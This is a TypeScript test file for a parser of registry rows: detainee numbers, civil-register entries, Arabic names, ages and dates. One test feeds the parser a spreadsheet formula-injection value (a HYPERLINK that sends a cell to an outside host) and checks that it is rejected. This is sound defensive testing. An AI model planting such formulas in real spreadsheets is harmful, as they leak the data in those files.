import fc from 'fast-check';
import type { DateRead, RowManner } from '@athar/imports';
import { REGISTRY_COLUMNS, type RegistryColumn } from '../columns.js';
import { readRow, type GoodRow } from './row-document.js';

type Cells = Partial<Record<RegistryColumn, string>>;

function read(cells: Cells, manner?: RowManner) {
  const row = Object.entries(cells).map(
    ([column, text]) => [column as RegistryColumn, { header: column, text }] as const,
  );
  return readRow(new Map(row), manner);
}

function good(cells: Cells): GoodRow {
  const result = read({ id: '1', name: 'Amrun', ...cells });
  if ('problems' in result) throw new Error(JSON.stringify(result.problems));
  return result;
}

function codes(cells: Cells): string[] {
  const result = read({ id: '1', name: 'Amrun', ...cells });
  return 'problems' in result
    ? result.problems.map((problem) => `${problem.field} ${problem.code}`)
    : [];
}

describe('a row of a registry', () => {
  it('of a civil register is known by the page and the name', () => {
    const page = { id: '', register_place: 'Alun', register_number: '٤٤' };
    const identity = (cells: Cells) => good({ ...page, ...cells }).identity;
    expect(identity({})).toBe(identity({ register_number: '44', died_on: '2014' }));
    expect(identity({})).not.toBe(identity({ name: 'Belun' }));
    expect(good({ ...page, died_on: '2014-05', stated_cause: 'x' }).document.civil).toEqual({
      registerPlace: 'Alun',
      registerNumber: '٤٤',
      diedOn: '2014-05',
      statedCause: 'x',
    });
    expect(codes({ ...page, registered_on: 'May' })).toEqual(['registered_on bad-date']);
  });

  it('needs a name, a number or a mark, and no more', () => {
    for (const cells of [{ given_name: 'Amrun' }, { detainee_number: '7' }, { marks: 'scar' }]) {
      expect(read({ id: '1', ...cells })).toHaveProperty('document');
    }
    for (const cells of [{}, { name: 'مجهول الهوية' }, { age: '30', branch: '215' }]) {
      expect(read({ id: '1', ...cells })).toMatchObject({
        problems: [{ code: 'nothing-to-know-by' }],
      });
    }
  });

  it('keeps numbers as written and knows them by their digits', () => {
    const [arabic, latin] = [
      good({ id: '', detainee_number: '٢٦١٥ ب', branch: '٢١٥' }),
      good({ id: ' ', detainee_number: '2615  ب', branch: '215' }),
    ];
    expect(arabic.document.numbers).toEqual([{ value: '٢٦١٥ ب' }]);
    expect(arabic.identity).toBe(latin.identity);
    expect(good({ id: '', detainee_number: '2615', branch: '227' }).identity).not.toBe(
      good({ id: '', detainee_number: '2615', branch: '215' }).identity,
    );
  });

  it('tells names as written from transcriptions', () => {
    expect(good({ name: 'Amrun', name_arabic: 'عمرون' }).document.names).toEqual({
      asWritten: ['عمرون'],
      transcribed: [{ text: 'Amrun' }],
    });
    const names = good({
      name: '',
      name_arabic: 'عمرون',
      reader: 'r1',
      confidence: '٨٠٪',
    }).document;
    expect(names.names).toEqual({
      transcribed: [{ text: 'عمرون', reader: 'r1', confidence: 0.8 }],
    });
  });

  it('reads ages in years and days, in either digits', () => {
    const ages = ['34', '٣ أيام', '3 days', '٣٤ عاماً', '0.5'].map(
      (age) => good({ age }).document.age,
    );
    expect(ages).toEqual([
      { value: 34, unit: 'years' },
      { value: 3, unit: 'days' },
      { value: 3, unit: 'days' },
      { value: 34, unit: 'years' },
      { value: 0.5, unit: 'years' },
    ]);
    for (const age of ['thirty', '30-40', '130', '-1'])
      expect(codes({ age })).toEqual(['age bad-age']);
  });

  it('reads dates as EDTF, also those of a workbook, and refuses others', () => {
    const { document } = good({
      birth_date: '١٩٨٧',
      photo_date: '2013-11-05T14:20:00',
      photo_dates: '2013-11~; 2013-11/..; 2013-11-05',
    });
    expect(document.birthDate).toBe('1987');
    expect(document.photoDates).toEqual(['2013-11-05', '2013-11~', '2013-11/..']);
    for (const date of ['5/11/13', 'winter', '2013-11-05T14:20Z']) {
      expect(codes({ birth_date: date })).toEqual(['birth_date bad-date']);
    }
    for (const date of ['2013-13', '2013-02-30', '31/9/2013']) {
      expect(codes({ birth_date: date })).toEqual(['birth_date no-such-day']);
    }
  });

  it('refuses dates that cannot be, and takes spans that reach into those that can', () => {
    expect(codes({ birth_date: '1434-07-12' })).toEqual(['birth_date hijri-year']);
    expect(codes({ birth_date: '12/7/1434' })).toEqual(['birth_date hijri-year']);
    expect(codes({ died_on: '0213' })).toEqual(['died_on long-ago']);
    expect(codes({ photo_date: '2999-01-01' })).toEqual(['photo_date in-the-future']);
    expect(codes({ photo_dates: '2013-05; 3/4/2999' })).toEqual(['photo_dates in-the-future']);
    expect(good({ photo_dates: '2013/2999' }).document.photoDates).toEqual(['2013/2999']);
  });

  it('refuses what is no name', () => {
    for (const [name, code] of [
      ['+963', 'not-a-name'],
      ['123', 'not-a-name'],
      ['@x', 'formula'],
      ['=HYPERLINK("http://x/"&A1)', 'formula'],
    ] as const) {
      expect(codes({ name })).toEqual([`name ${code}`]);
      expect(codes({ father_name: name })).toEqual([`father_name ${code}`]);
    }
    for (const name of ['؟؟؟', '---']) {
      expect(codes({ name })).toEqual(['name nothing-to-know-by']);
      expect(good({ mother_name: name }).document.names).not.toHaveProperty('mother');
    }
  });

  it('reads usual dates, and names the forms to write where it is not sure which is the month', () => {
    expect(good({ birth_date: '25/6/1985', registered_on: 'حزيران ٢٠١٣' }).document).toMatchObject({
      birthDate: '1985-06-25',
      civil: { registeredOn: '2013-06' },
    });
    expect(read({ id: '1', name: 'Amrun', birth_date: '5/6/1985' })).toMatchObject({
      problems: [
        {
          field: 'birth_date',
          code: 'unclear-date',
          expected: 'one of: 1985-06-05, 1985-05-06',
          fix: expect.stringContaining('1985-06-05 for 5 June 1985') as string,
        },
      ],
    });
    const told: DateRead[] = [];
    const manner = { dateOrder: 'dmy', tellDate: (date: DateRead) => told.push(date) } as const;
    const row = read({ id: '1', name: 'Amrun', birth_date: '5/6/1985' }, manner);
    expect(row).toMatchObject({ document: { birthDate: '1985-06-05' } });
    expect(told).toEqual([{ column: 'birth_date', written: '5/6/1985', read: '1985-06-05' }]);
  });

  it('reads sexes in both languages', () => {
    const sexes = ['m', 'F', 'ذكر', 'انثى', 'Male'].map((sex) => good({ sex }).document.sex);
    expect(sexes).toEqual(['male', 'female', 'male', 'female', 'male']);
    expect(codes({ sex: 'x', state: 'gone' })).toEqual(['sex unknown-word', 'state unknown-word']);
  });

  it('names each bad cell once, whatever it is read for', () => {
    expect(codes({ id: 'x'.repeat(300), branch: 'y'.repeat(300) })).toEqual([
      'id too-long',
      'branch too-long',
    ]);
  });

  it('never throws and never repeats a value, whatever the cells hold', () => {
    const word = fc.string({ unit: 'binary', minLength: 8, maxLength: 40 });
    const cells = fc.dictionary(fc.constantFrom(...REGISTRY_COLUMNS), word);
    fc.assert(
      fc.property(cells, (row) => {
        const result = read(row);
        if (!('problems' in result)) return;
        const told = JSON.stringify(result.problems);
        for (const value of Object.values(row)) expect(told).not.toContain(JSON.stringify(value));
      }),
    );
  });
});
